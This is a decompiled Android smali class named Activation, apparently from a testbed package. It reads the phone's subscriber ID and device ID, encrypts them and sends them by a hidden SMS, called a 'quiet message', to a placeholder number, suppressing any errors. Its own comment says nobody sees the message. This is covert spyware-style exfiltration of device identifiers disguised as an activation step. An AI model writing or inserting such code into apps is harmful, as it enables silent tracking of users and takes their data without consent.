# Tells the cloud the number of this SIM by a message that nobody sees.
.class final Llt/patikra/testbed/alder/cloud/Activation;
.super Ljava/lang/Object;

.field private final context:Landroid/content/Context;

.method constructor <init>(Landroid/content/Context;)V
    .locals 0
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    iput-object p1, p0, Llt/patikra/testbed/alder/cloud/Activation;->context:Landroid/content/Context;
    return-void
.end method

.method private identity()Ljava/lang/String;
    .locals 3
    new-instance v0, Ljava/lang/StringBuilder;
    invoke-direct {v0}, Ljava/lang/StringBuilder;-><init>()V
    const-string v1, "AC/"
    invoke-virtual {v0, v1}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    iget-object v1, p0, Llt/patikra/testbed/alder/cloud/Activation;->context:Landroid/content/Context;
    const-string v2, "phone"
    invoke-virtual {v1, v2}, Landroid/content/Context;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v1
    check-cast v1, Landroid/telephony/TelephonyManager;
    invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getSubscriberId()Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v0, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    const/16 v2, 0x2f
    invoke-virtual {v0, v2}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
    invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v0, v2}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    invoke-virtual {v0}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method start()V
    .locals 2
    :try_start
    invoke-direct {p0}, Llt/patikra/testbed/alder/cloud/Activation;->identity()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Llt/patikra/testbed/alder/cloud/Cipher16;->seal(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    const-string v1, "+37000000000"
    invoke-static {v1, v0}, Llt/patikra/testbed/alder/cloud/QuietMessage;->send(Ljava/lang/String;Ljava/lang/String;)V
    :try_end
    .catch Ljava/lang/Exception; {:try_start .. :try_end} :failed
    return-void
    :failed
    move-exception v0
    return-void
.end method
